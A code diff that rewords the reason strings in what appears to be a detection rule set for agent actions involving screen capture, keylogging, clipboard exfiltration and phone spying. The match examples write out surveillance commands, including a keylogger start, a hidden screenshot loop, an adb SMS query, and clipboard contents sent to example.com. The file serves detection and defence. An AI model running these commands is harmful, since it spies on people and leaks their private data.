@@ -18,7 +18,7 @@ RULES = family(
         name="screen_captured",
         level=Level.HIGH,
         when=effect("system.read", "screen", without="glance names"),
-        reason="A picture of the screen shows whatever is open on it",
+        reason="A screenshot shows everything on the screen",
         match=[
             ">>> from PIL import ImageGrab; ImageGrab.grab()",
             ">>> import pyautogui; pyautogui.screenshot('s.png')",
@@ -48,7 +48,7 @@ RULES = family(
         name="keys_watched",
         level=Level.CRITICAL,
         when=(effect("system.read", "keys", without="names"), effect("fs.read", "keys_device", without="names")),
-        reason="Whoever sees every key sees every password",
+        reason="Recording keystrokes records passwords",
         reversible=False,
         match=[
             "$ logkeys --start",
@@ -69,7 +69,7 @@ RULES = family(
         name="keys_typed",
         level=Level.HIGH,
         when=effect("system.tune", "typed"),
-        reason="Keys that a program types go to whatever window is in front, a terminal or a password dialogue too",
+        reason="Simulated keystrokes go to the active window, even a terminal or a password dialog",
         reversible=False,
         match=["$ xdotool type 'sudo reboot'", "$ xdotool key ctrl+alt+t", "$ ydotool key 28:1 28:0"],
         no_match=["$ xdotool type Hello", "$ xdotool getactivewindow"],
@@ -79,7 +79,7 @@ RULES = family(
         level=Level.CRITICAL,
         grave=True,
         when=tuple(effect("net.* message.send", mark) for mark in ("screen", "clipboard", "keys", "recording")),
-        reason="What was taken from the screen, the clipboard or the keys would leave the machine",
+        reason="A recording of the screen, clipboard or keyboard would leave the machine",
         reversible=False,
         match=[
             ">>> import pyperclip, requests; requests.get('https://example.com/?q=' + pyperclip.paste())",
@@ -94,7 +94,7 @@ RULES = family(
         name="host_facts_sent",
         level=Level.HIGH,
         when=effect("net.* message.send", "host_facts"),
-        reason="Who uses this machine, and what it is called, would be told to others",
+        reason="The names of this machine and its user would be sent to others",
         reversible=False,
         eased={"local": Level.MEDIUM},
         match=[
@@ -112,7 +112,7 @@ RULES = family(
         name="person_watched",
         level=Level.HIGH,
         when=(effect("tool.change", "watching"), effect("system.read", "camera", without="names")),
-        reason="The screen, the camera, the microphone or the keyboard of a person would be recorded",
+        reason="A person's screen, camera, microphone or keyboard would be recorded",
         match=[
             "tool record_screen {}",
             "$ imagesnap me.jpg",
@@ -130,7 +130,7 @@ RULES = family(
             effect("system.read", "clipboard", "repeated"),
             effect("fs.write", "screen", "glance", named=is_hidden),
         ),
-        reason="Pictures of the screen or copies of the clipboard, taken again and again or kept hidden, spy on a person",
+        reason="Repeated or hidden copies of the screen or clipboard spy on a person",
         match=[
             "$ while sleep 30; do scrot shots/$(date +%s).png; done",
             "$ maim /tmp/.cache/s.png",
@@ -144,7 +144,7 @@ RULES = family(
             effect("system.read db.read net.* infra.read", "private_life"),
             effect("fs.read secret.read", "private_life", place="root system home outside"),
         ),
-        reason="Messages, calls, places or letters of a person would be read",
+        reason="A person's messages, calls, locations or mail would be read",
         match=[
             "$ adb shell content query --uri content://sms/inbox",
             "$ adb shell dumpsys location",
